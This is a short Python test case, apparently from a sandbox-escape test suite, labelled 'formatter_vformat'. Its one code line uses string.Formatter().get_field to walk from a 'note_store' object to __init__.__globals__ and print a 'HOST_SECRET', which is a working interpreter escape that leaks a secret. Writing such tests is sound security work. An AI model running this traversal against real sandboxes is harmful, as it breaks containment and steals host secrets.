# id: 506
# name: formatter_vformat
# category: interpreter
# technique: string.Formatter().get_field
# breach: hostmem
# looks_like: a host secret reaches the output
# imports: string
# baseline: inproc
import string
print(string.Formatter().get_field('0.__class__.__init__.__globals__', [note_store], {})[0]['HOST_SECRET'])
